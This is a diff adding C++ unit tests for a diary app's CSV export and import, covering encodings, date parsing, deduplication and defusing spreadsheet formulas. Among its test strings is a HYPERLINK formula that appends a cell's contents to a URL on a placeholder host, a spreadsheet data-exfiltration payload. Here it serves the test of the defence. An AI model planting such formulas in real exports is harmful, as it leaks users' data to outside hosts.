@@ -1,6 +1,7 @@
 // The diary's CSV export and import against real files.
 #include "data/errors.h"
 #include "datafile/csv.h"
+#include "datafile/csvreader.h"
 #include "support/tempdb.h"
 
 #include <QBuffer>
@@ -28,9 +29,9 @@ private slots:
                                "INSERT INTO rj VALUES ('2026-12-09 21:05:09.007', '第一行\r\n第二行\n😀', NULL);"));
         const QByteArray expected = "\xEF\xBB\xBF"
                                     "时间,体重(斤),日记\r\n"
-                                    "2026-12-07 13:27:17.154,120.5,早饭，少吃\r\n"
-                                    "2026-12-08 08:00:00.000,125,\"他说\"\"加油\"\"\"\r\n"
-                                    "2026-12-09 21:05:09.007,,\"第一行\r\n第二行\n😀\"\r\n";
+                                    "\"2026-12-07 13:27:17.154\",120.5,\"早饭，少吃\"\r\n"
+                                    "\"2026-12-08 08:00:00.000\",125,\"他说\"\"加油\"\"\"\r\n"
+                                    "\"2026-12-09 21:05:09.007\",,\"第一行\r\n第二行\n😀\"\r\n";
         QCOMPARE(exported(db), expected);
     }
 
@@ -106,7 +107,7 @@ private slots:
                                              QStringLiteral("2026-13-01 08:00")};
         QTest::newRow("weight not a number")
             << head + "2026-12-08 08:00,12o,x\r\n"
-            << QStringList{QStringLiteral("第 3 行"), QStringLiteral("“体重(斤)”列"), QStringLiteral("'12o'")};
+            << QStringList{QStringLiteral("第 3 行"), QStringLiteral("“体重(斤)”列"), QStringLiteral("“12o”")};
         QTest::newRow("weight above the program's limit")
             << head + "2026-12-08 08:00,2000.5,x\r\n"
             << QStringList{QStringLiteral("第 3 行"), QStringLiteral("“体重(斤)”列"), QStringLiteral("2000")};
@@ -136,6 +137,111 @@ private slots:
                 QVERIFY2(e.message().contains(part), qPrintable(e.message()));
         }
         QCOMPARE(db.rows(diary()), QStringList{QStringLiteral("2026-12-01 08:00:00.000|130.0|before")});
+    }
+
+    void readerTakesWhatSpreadsheetsWriteBack_data()
+    {
+        QTest::addColumn<QByteArray>("row");
+        QTest::addColumn<QString>("time");
+        QTest::addColumn<QString>("text");
+        // 𠀀 (U+20000) is four bytes in GB18030, which GBK cannot read.
+        QTest::newRow("GB18030 four bytes") << QByteArray("2026-12-07 08:00,120,\x95\x32\x82\x36\xd6\xd0")
+                                            << "2026-12-07 08:00:00.000" << QStringLiteral("𠀀中");
+        QTest::newRow("seconds at midnight") << QByteArray("2026-12-07 00:00:05,120,x") << "2026-12-07 00:00:05.000"
+                                             << "x";
+        QTest::newRow("guarded formula") << QByteArray("2026/12/7 8:05,120,'=1+1") << "2026-12-07 08:05:00.000"
+                                         << "=1+1";
+        QTest::newRow("guarded apostrophe") << QByteArray("2026/12/7 8:05,120,\"''-x\"") << "2026-12-07 08:05:00.000"
+                                            << "'-x";
+        QTest::newRow("apostrophe of the user's own")
+            << QByteArray("2026/12/7 8:05,120,'ok") << "2026-12-07 08:05:00.000"
+            << "'ok";
+    }
+
+    void readerTakesWhatSpreadsheetsWriteBack()
+    {
+        QFETCH(QByteArray, row);
+        QFETCH(QString, time);
+        QFETCH(QString, text);
+        const QByteArray head = row.contains('\x95')
+                                    ? QByteArray("\xca\xb1\xbc\xe4,\xcc\xe5\xd6\xd8(\xbd\xef),\xc8\xd5\xbc\xc7\r\n")
+                                    : QByteArray("时间,体重(斤),日记\r\n");
+        const std::vector<datafile::CsvEntry> entries = datafile::readCsv(head + row + "\r\n", QStringLiteral("d.csv"));
+        QCOMPARE(entries.size(), size_t(1));
+        QCOMPARE(QString::fromLatin1(entries[0].time, 23), time);
+        QCOMPARE(QString::fromUtf8(entries[0].text), text);
+    }
+
+    void formulasLeaveAsTextAndComeBackExactly()
+    {
+        const QStringList texts{"=1+1",
+                                "+86 138",
+                                "-2 斤",
+                                "@SUM(A1)",
+                                "\t缩进",
+                                "\r回车",
+                                "=HYPERLINK(\"http://x/?d=\"&A2,\"点我\")",
+                                "'=x",
+                                "''@y",
+                                "'自己的撇号",
+                                "平常的话"};
+        TempDatabase source;
+        for (int i = 0; i < texts.size(); ++i)
+            source.exec(QStringLiteral("INSERT INTO rj VALUES ('2026-12-07 08:00:%1.000', '%2', 120)")
+                            .arg(i, 2, 10, QLatin1Char('0'))
+                            .arg(QString(texts[i]).replace(u'\'', QStringLiteral("''"))));
+        const QByteArray csv = exported(source);
+        QVERIFY(csv.contains("\"'=1+1\""));
+        QVERIFY(csv.contains("\"'@SUM(A1)\""));
+        QVERIFY(csv.contains("\"''=x\""));
+        QVERIFY(csv.contains("\"'自己的撇号\""));
+        // Every field of a row but the weight is quoted: no field starts with a formula character.
+        for (const QByteArray& line : csv.split('\n'))
+            QVERIFY2(line.isEmpty() || !QByteArray("=+-@").contains(line.at(0)), line.constData());
+        TempDatabase target;
+        datafile::importCsv(target.path(), csv, QStringLiteral("d.csv"));
+        QCOMPARE(target.rows(QStringLiteral("SELECT demo FROM rj ORDER BY rowid")), texts);
+    }
+
+    void rowAsASpreadsheetSavesItIsTheStoredEntry_data()
+    {
+        QTest::addColumn<QByteArray>("row");
+        QTest::addColumn<int>("added");
+        QTest::newRow("to the minute") << QByteArray("2026/1/2 5:50,120,a") << 0;
+        QTest::newRow("to the second") << QByteArray("2026/1/2 5:50:06,120,a") << 0;
+        QTest::newRow("the day only") << QByteArray("2026/1/2,120,a") << 0;
+        QTest::newRow("as stored") << QByteArray("2026-01-02 05:50:06.953,120,a") << 0;
+        QTest::newRow("another minute") << QByteArray("2026/1/2 5:51,120,a") << 1;
+        QTest::newRow("another second") << QByteArray("2026/1/2 5:50:07,120,a") << 1;
+        QTest::newRow("another millisecond") << QByteArray("2026-01-02 05:50:06.952,120,a") << 1;
+        QTest::newRow("another text") << QByteArray("2026/1/2 5:50,120,b") << 1;
+        QTest::newRow("another weight") << QByteArray("2026/1/2 5:50,121,a") << 1;
+        QTest::newRow("no weight") << QByteArray("2026/1/2 5:50,,a") << 1;
+    }
+
+    void rowAsASpreadsheetSavesItIsTheStoredEntry()
+    {
+        QFETCH(QByteArray, row);
+        QFETCH(int, added);
+        TempDatabase db;
+        db.exec(QStringLiteral("INSERT INTO rj VALUES ('2026-01-02 05:50:06.953', 'a', 120)"));
+        const datafile::ImportResult result =
+            datafile::importCsv(db.path(), "时间,体重(斤),日记\r\n" + row + "\r\n", QStringLiteral("d.csv"));
+        QCOMPARE(result.added, added);
+        QCOMPARE(result.skipped, 1 - added);
+        QCOMPARE(db.scalar(QStringLiteral("SELECT count(*) FROM rj")).toInt(), 1 + added);
+    }
+
+    void manyRowsOfOneTimeKeepOneOfEachEntry()
+    {
+        QByteArray csv = "时间,体重(斤),日记\n";
+        for (int i = 0; i < 20000; ++i)
+            csv += "2026/12/7,120," + QByteArray::number(i % 10000) + "\n";
+        TempDatabase db;
+        db.exec(QStringLiteral("INSERT INTO rj VALUES ('2026-12-07 21:00:00.000', '7', 120)"));
+        const datafile::ImportResult result = datafile::importCsv(db.path(), csv, QStringLiteral("d.csv"));
+        QCOMPARE(result.added, 9999);
+        QCOMPARE(result.skipped, 10001);
     }
 
     void diaryStaysInTimeOrderAfterAnImport()
